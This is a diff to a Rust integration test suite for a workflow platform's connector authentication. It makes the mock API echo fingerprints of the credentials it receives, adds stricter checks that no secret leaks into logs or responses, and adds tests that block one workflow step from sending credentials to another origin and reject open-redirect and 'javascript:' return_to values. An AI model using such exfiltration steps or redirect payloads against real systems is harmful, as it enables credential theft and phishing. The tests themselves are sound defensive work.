@@ -74,7 +74,13 @@ impl Respond for TokenEndpoint {
     }
 }
 
-/// The provider's API: answers with the credentials it received; a revoked token gets 401.
+/// What the mock API echoes for a credential it received: a SHA-256 fingerprint.
+fn fp(value: &str) -> String {
+    format!("fp:{}", &hex::encode(sha2::Sha256::digest(value.as_bytes()))[..16])
+}
+
+/// The provider's API: answers with fingerprints of the credentials it received; a revoked
+/// token gets 401.
 struct Api;
 
 impl Respond for Api {
@@ -84,9 +90,10 @@ impl Respond for Api {
         if header("authorization").as_deref() == Some("Bearer revoked-access-secret-Ui1") {
             return ResponseTemplate::new(401).set_body_json(json!({"message": "token revoked"}));
         }
+        // Fingerprints, not the credentials: then no response anywhere may contain a secret.
         ResponseTemplate::new(200).set_body_json(json!({
-            "authorization": header("authorization"), "x_api_key": header("x-api-key"), "api_key_param": query.get("api_key"),
-            "idempotency_key": header("idempotency-key"),
+            "authorization": header("authorization").map(|v| fp(&v)), "x_api_key": header("x-api-key").map(|v| fp(&v)),
+            "api_key_param": query.get("api_key").map(|v| fp(v)), "idempotency_key": header("idempotency-key"),
         }))
     }
 }
@@ -292,7 +299,7 @@ async fn every_auth_kind_works_end_to_end_and_no_secret_leaks() {
     let (status, out) = ctx.action("mock_oauth", "whoami", json!({})).await;
     assert_eq!(
         (status, out["output"]["authorization"].as_str()),
-        (200, Some(&*format!("Bearer {}", access(1)))),
+        (200, Some(&*fp(&format!("Bearer {}", access(1))))),
         "{out}"
     );
 
@@ -309,7 +316,7 @@ async fn every_auth_kind_works_end_to_end_and_no_secret_leaks() {
     let (status, out) = ctx.action("mock_oauth", "whoami", json!({})).await;
     assert_eq!(
         (status, out["output"]["authorization"].as_str()),
-        (200, Some(&*format!("Bearer {}", access(2)))),
+        (200, Some(&*fp(&format!("Bearer {}", access(2))))),
         "refreshed before use: {out}"
     );
     let stored = ctx.platform().secrets.get_fresh(&connections::owner(&space, &tenant)).await.unwrap().unwrap();
@@ -330,7 +337,7 @@ async fn every_auth_kind_works_end_to_end_and_no_secret_leaks() {
     let (status, out) = ctx.action("mock_oauth", "whoami", json!({})).await;
     assert_eq!(
         (status, out["output"]["authorization"].as_str()),
-        (200, Some(&*format!("Bearer {}", access(3)))),
+        (200, Some(&*fp(&format!("Bearer {}", access(3))))),
         "{out}"
     );
 
@@ -391,7 +398,11 @@ async fn every_auth_kind_works_end_to_end_and_no_secret_leaks() {
         .await;
     assert_eq!((status, body["credentials"]["kind"].as_str()), (200, Some("client_credentials")), "{body}");
     let (status, out) = ctx.action("mock_cc", "whoami", json!({})).await;
-    assert_eq!((status, out["output"]["authorization"].as_str()), (200, Some("Bearer cc-access-secret-Po09")), "{out}");
+    assert_eq!(
+        (status, out["output"]["authorization"].as_str()),
+        (200, Some(&*fp("Bearer cc-access-secret-Po09"))),
+        "{out}"
+    );
 
     // --- API key (header and query), basic, bearer --------------------------------------------
     for (connector, credentials, field, expected) in [
@@ -411,7 +422,7 @@ async fn every_auth_kind_works_end_to_end_and_no_secret_leaks() {
             .await;
         assert_eq!(status, 200, "{connector}: {body}");
         let (status, out) = ctx.action(connector, "whoami", json!({})).await;
-        assert_eq!((status, out["output"][field].as_str()), (200, Some(expected.as_str())), "{connector}: {out}");
+        assert_eq!((status, out["output"][field].as_str()), (200, Some(&*fp(&expected))), "{connector}: {out}");
     }
     // Wrong kind for the connector.
     let (status, _) = ctx
@@ -441,12 +452,26 @@ async fn every_auth_kind_works_end_to_end_and_no_secret_leaks() {
     let execution = run_manual(&ctx, "auth-flow").await;
     assert_eq!(execution["status"], "succeeded", "{execution}");
     let steps = &execution["step_details"];
-    assert_eq!(steps[0]["output"]["authorization"], format!("Bearer {BEARER}"));
+    assert_eq!(steps[0]["output"]["authorization"], fp(&format!("Bearer {BEARER}")));
     assert!(
         steps[0]["output"]["idempotency_key"].as_str().is_some_and(|k| k.starts_with("swy-")),
         "action steps send idempotency keys"
     );
-    assert_eq!(steps[1]["output"]["body"]["x_api_key"], API_KEY);
+    assert_eq!(steps[1]["output"]["body"]["x_api_key"], fp(API_KEY));
+
+    // An authenticated http step cannot send the tenant's credentials to another origin.
+    let elsewhere = MockServer::start().await;
+    let flow = json!({
+        "id": "exfil-flow", "name": "exfil", "trigger": {"type": "manual"},
+        "steps": [{"id": "steal", "kind": "http", "url": format!("{}/collect", elsewhere.uri()), "auth": "mock_key_header"}]
+    });
+    let (status, body) = ctx.call("POST", &format!("/api/v1/tenants/{t}/workflows"), Some(flow)).await;
+    assert_eq!(status, 201, "{body}");
+    let execution = run_manual(&ctx, "exfil-flow").await;
+    assert_eq!(execution["status"], "failed", "{execution}");
+    let error = execution["step_details"][0]["error"]["message"].as_str().unwrap_or_default();
+    assert!(error.contains("only sent to"), "{execution}");
+    assert!(elsewhere.received_requests().await.unwrap().is_empty(), "nothing reached the other origin");
 
     // --- Disconnect ---------------------------------------------------------------------------
     let (status, body) =
@@ -468,20 +493,17 @@ async fn every_auth_kind_works_end_to_end_and_no_secret_leaks() {
         CC_SECRET.into(),
         "cc-access-secret-Po09".into(),
         PASSWORD.into(),
+        API_KEY.into(),
+        BEARER.into(),
         "revoked-access-secret-Ui1".into(),
+        // HTTP Basic carries them base64-encoded.
+        base64::engine::general_purpose::STANDARD.encode(format!("ada:{PASSWORD}")),
+        base64::engine::general_purpose::STANDARD.encode(format!("client+2:{CLIENT_SECRET}")),
     ];
     secrets.extend((1..=25).flat_map(|n| [access(n), refresh_token(n)]));
     for secret in &secrets {
         assert!(!logs.contains(secret.as_str()), "a log line contains the secret {secret}");
-    }
-    // What the provider echoes back (its own view of the request) is the only place our
-    // credentials may appear in responses: the mock API's echo of the headers it got.
-    let responses_without_echo: String = responses
-        .lines()
-        .filter(|l| !l.contains("\"authorization\"") && !l.contains("x_api_key") && !l.contains("api_key_param"))
-        .collect();
-    for secret in secrets.iter().chain([API_KEY.to_string(), BEARER.to_string()].iter()) {
-        assert!(!responses_without_echo.contains(secret.as_str()), "an API response contains the secret {secret}");
+        assert!(!responses.contains(secret.as_str()), "an API response contains the secret {secret}");
     }
 }
 
@@ -597,5 +619,52 @@ async fn fifty_parallel_executions_share_one_refresh() {
         api_calls
             .iter()
             .all(|r| r.headers.get("authorization").unwrap().to_str().unwrap() == format!("Bearer {}", access(101)))
+    );
+}
+
+/// `return_to` sends the tenant's browser somewhere after consent: only to listed origins.
+#[tokio::test]
+async fn oauth_return_to_is_limited_to_listed_origins() {
+    let (server, _tokens) = provider().await;
+    let mut p = switchyard_tests::platform_with(Kind::Embedded, system_clock(), 5, |s| {
+        s.oauth_return_origins = vec!["https://app.example.com".into()];
+    })
+    .await;
+    p.catalog = mock_catalog(&server.uri());
+    let app = spawn_app(p).await;
+    let (space, tenant) = (unique("sp"), unique("tn"));
+    let key = app.seed_tenant(&space, &tenant).await;
+    let r =
+        app.api(&key, &space, "PUT", &format!("/api/v1/tenants/{tenant}/connectors/mock_oauth"), Some(json!({}))).await;
+    assert_eq!(r.status, 200, "{r:?}");
+    let app_body = json!({"client_id": "client-1", "client_secret": CLIENT_SECRET});
+    let r = app.api(&key, &space, "PUT", "/api/v1/connectors/mock_oauth/oauth-app", Some(app_body)).await;
+    assert_eq!(r.status, 200, "{r:?}");
+    let connect = format!("/api/v1/tenants/{tenant}/connectors/mock_oauth/connect");
+    for bad in [
+        "https://evil.example.com/after",
+        "http://app.example.com/after",
+        "https://app.example.com.evil.net/",
+        "javascript:alert(1)",
+    ] {
+        let r = app.api(&key, &space, "POST", &connect, Some(json!({"return_to": bad}))).await;
+        assert_eq!(r.status, 400, "{bad}: {r:?}");
+    }
+    let r = app
+        .api(&key, &space, "POST", &connect, Some(json!({"return_to": "https://app.example.com/settings?tab=apps"})))
+        .await;
+    assert_eq!(r.status, 200, "{r:?}");
+    let state = r.body["state"].as_str().unwrap().to_string();
+    let no_redirects =
+        reqwest::Client::builder().no_proxy().redirect(reqwest::redirect::Policy::none()).build().unwrap();
+    let response = no_redirects
+        .get(format!("{}/api/v1/oauth/callback?code=good-code&state={state}", app.base))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status().as_u16(), 302);
+    assert_eq!(
+        response.headers()["location"].to_str().unwrap(),
+        "https://app.example.com/settings?tab=apps&connected=mock_oauth"
     );
 }
